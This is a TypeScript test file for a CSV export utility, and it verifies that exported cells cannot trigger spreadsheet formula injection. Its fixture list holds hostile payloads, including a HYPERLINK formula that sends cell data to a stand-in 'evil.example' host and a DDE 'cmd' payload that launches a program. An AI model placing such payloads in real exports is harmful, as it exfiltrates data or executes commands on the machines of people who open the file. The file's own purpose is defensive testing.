import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, csvRows } from '../../../utils/exporting/csv.ts';
import type { Review } from '../../../utils/review/schema.ts';
import { aFinding, aJudgement, aReview, aSnapshot } from '../../support/builders.ts';

/** What any reader of RFC 4180 sees; another separator stands for a spreadsheet that was set to it. */
function read(file: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (let at = 0; at < file.length; ) {
    let cell = '';
    if (file[at] === '"') {
      at += 1;
      for (; at < file.length; at += 1) {
        if (file[at] !== '"') cell += file[at];
        else if (file[at + 1] === '"') {
          cell += '"';
          at += 1;
        } else break;
      }
      at += 1;
    }
    // A quote that does not begin a cell is a character like others.
    while (at < file.length && file[at] !== separator && file[at] !== '\n' && file[at] !== '\r') {
      cell += file[at];
      at += 1;
    }
    row.push(cell);
    if (file[at] === separator) {
      at += 1;
      continue;
    }
    if (file[at] === '\r') at += 1;
    at += 1;
    rows.push(row);
    row = [];
  }
  return rows;
}

/** Texts that begin a formula in some spreadsheet, plainly or behind what is not seen. */
const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\tharmless',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u2066\u200f =1+1',
  '\0=1+1',
  '\u001f=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '−1+1',
  '|calc',
  '%0A=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"a, b;c")',
  "=cmd|' /C calc'!A0",
  '""=1+1',
  '"=1+1',
];
const harmless = ['Refunds take 14 days.', 'a, b; c\n"d"', 'a = b', '1-2', '', 'Émile 👩🏽‍⚕️', '- a list\n- of two'];

/** What a spreadsheet looks at, once it has skipped what it may skip. */
const begin = (cell: string) => cell.replace(/^[\s\p{Cf}\p{Cc}\p{Zs}]*/u, '').slice(0, 1);
const dangerous = new Set([...'=+-@|%＝＋－＠−']);

describe('a cell of a table', () => {
  it.each(attacks)('given %j, it is text to every spreadsheet', (attack) => {
    const [[cell = ''] = []] = read(csvRow([attack]));
    expect(dangerous.has(begin(cell))).toBe(false);
    expect(cell).not.toMatch(/^[\t\r\n]/);
  });

  it('given what no spreadsheet takes for a formula, only its line ends change', () => {
    for (const text of harmless.slice(0, -1)) expect(read(csvRow([text]))).toEqual([[text]]);
    expect(read(csvRow(['one\r\ntwo\rthree\u2028four']))).toEqual([['one\ntwo\nthree\u2028four']]);
    expect(read(csvRow([3, null, 'x']))).toEqual([['3', '', 'x']]);
  });

  it('given any text in any place, rows and cells keep their number, and no cell begins a formula', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc
        .array(fc.constantFrom(...attacks, ...harmless, ',', ';', '"', '\n', '\t', "'"), { maxLength: 8 })
        .map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 5 }), (rows) => {
        const seen = read(rows.map((row) => csvRow(row)).join(''));
        expect(seen.map((row) => row.length)).toEqual(rows.map((row) => row.length));
        for (const cell of seen.flat()) expect(dangerous.has(begin(cell))).toBe(false);
      }),
    );
  });

  it.each([';', '\t'])(
    'given a spreadsheet that separates by %j, what follows one in a text is no formula either',
    (separator) => {
      const answer = `the total${separator}=1+1${separator} @SUM(1)${separator}\u200b＝1\n=1+1\n+1\n-1`;
      const seen = read(csvRow(['first', answer, 'last']), separator).flat();
      expect(seen.length).toBeGreaterThan(3);
      for (const cell of seen) expect(dangerous.has(begin(cell))).toBe(false);
    },
  );

  it('given a text that is too long for a cell, it is cut between characters, and says so', () => {
    const cell = csvCell('👍'.repeat(20_000));
    expect(cell.length).toBeLessThanOrEqual(32_767);
    expect(cell).toMatch(/^"(👍)+ … \(cut: the JSON Lines export has all of it\)"$/u);
  });
});

async function fileOf(reviews: readonly Review[], dimensions: readonly string[] = ['quality']): Promise<string> {
  let file = '';
  for await (const row of csvRows(reviews, dimensions)) file += row;
  return file;
}

describe('a table of reviews', () => {
  it('given reviews with all that they can have, there is a row for each, with a column for each dimension', async () => {
    const snapshot = aSnapshot({ text: 'Blue, "or" red.', pageTitle: '=EVIL()' });
    const judgement = aJudgement({
      ratings: [
        { dimension: 'quality', value: 2 },
        { dimension: 'tone', value: ['curt', 'vague'], reason: 'Two words' },
      ],
      findings: [aFinding(snapshot.text, 'red', { note: 'It is not', replacement: 'green' })],
      preference: {
        shown: [
          { responseKey: 'a', origin: 'https://chat.example', model: 'one', text: 'a', rank: 2, ratings: [] },
          { responseKey: 'b', origin: 'https://chat.example', model: null, text: 'b', rank: 1, ratings: [] },
        ],
        outcome: 'ranked',
        strength: 'clear',
      },
    });
    const [head = [], first = [], second = [], ...rest] = read(
      (await fileOf([aReview({ snapshot, judgement }), aReview()])).slice(1),
    );
    const row = Object.fromEntries(head.map((name, index) => [name, first[index]]));
    expect(row).toMatchObject({
      verdict: 'correct',
      answer: 'Blue, "or" red.',
      'page title': "'=EVIL()",
      'rating: quality': '2',
      'other ratings': 'tone: curt; vague (Two words)',
      findings: 'major, wrong: “red” · instead: “green” · It is not',
      preference: '1. b\n2. one\n(clear)',
      'seconds spent': '4',
    });
    expect(second).toHaveLength(head.length);
    expect(rest).toEqual([]);
  });

  it('given no review, it has its columns, and a mark by which Excel knows the encoding', async () => {
    const file = await fileOf([]);
    expect(file.startsWith('\ufeff"review","revision"')).toBe(true);
    expect(read(file)).toHaveLength(1);
  });
});

const office = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find(existsSync);

/** The cells of the first sheet as LibreOffice reads the file: their text, and whether each is text. */
function opened(file: string): { readonly text: string; readonly isText: boolean }[][] {
  const folder = mkdtempSync(join(tmpdir(), 'countersign-csv-'));
  try {
    writeFileSync(join(folder, 'table.csv'), file);
    const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
    // Separator, quote, UTF-8, from line 1; formulas evaluated (the last switch), which is the worst that a person can set.
    const filter = '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';
    const convert = ['--headless', '--convert-to', 'fods', '--outdir', folder, join(folder, 'table.csv')];
    execFileSync(office ?? '', [profile, filter, ...convert], { stdio: 'ignore', timeout: 280_000 });
    const xml = readFileSync(join(folder, 'table.fods'), 'utf8');
    const sheet = xml.slice(xml.indexOf('<table:table '), xml.indexOf('</table:table>'));
    const rows = [...sheet.matchAll(/<table:table-row[^>]*>(.*?)<\/table:table-row>/gs)];
    return rows.map(([, row = '']) => {
      const cells = [...row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>(.*?)<\/table:table-cell>)/gs)];
      return cells.flatMap(([, about = '', inner = '']) => {
        const text = [...inner.matchAll(/<text:p[^>]*>(.*?)<\/text:p>/gs)].map(([, line]) => line).join('\n');
        const isText = !/table:formula|office:value-type="(?!string)/.test(about);
        // Equal neighbors stand there once, and so do the empty ones to the end of the sheet.
        const times = Number(/number-columns-repeated="(\d+)"/.exec(about)?.[1] ?? 1);
        return Array.from({ length: Math.min(times, 30) }, () => ({ text, isText }));
      });
    });
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

describe.skipIf(office === undefined)('LibreOffice', () => {
  it('75: given every attack in every column, it opens the table with each cell as text, and not one row or cell more', {
    timeout: 300_000,
  }, async () => {
    const reviews = attacks.map((attack) =>
      aReview({
        snapshot: aSnapshot({
          text: attack,
          pageTitle: attack,
          prompt: `x,"${attack}";${attack}`,
          model: attack.trim() || null,
        }),
        judgement: aJudgement({ correction: `a\n${attack}`, comment: attack }),
      }),
    );
    const sheet = opened(await fileOf(reviews));
    const width = 20;
    const filled = sheet.filter((row) => row.some(({ text }) => text !== ''));
    expect(filled).toHaveLength(1 + attacks.length);
    const numbers = new Set(['revision', 'judged at', 'seconds spent', 'rating: quality']);
    const names = filled[0]?.map(({ text }) => text) ?? [];
    for (const row of filled)
      for (const [index, { text, isText }] of row.entries())
        if (!numbers.has(names[index] ?? '')) expect([text, isText]).toEqual([text, true]);
    expect(names.filter((name) => name !== '')).toHaveLength(width);
    // It can tell: the same without the guard has formulas.
    const bare = opened('"=1+1","x"\r\n');
    expect(bare[0]?.[0]?.isText).toBe(false);
  });
});
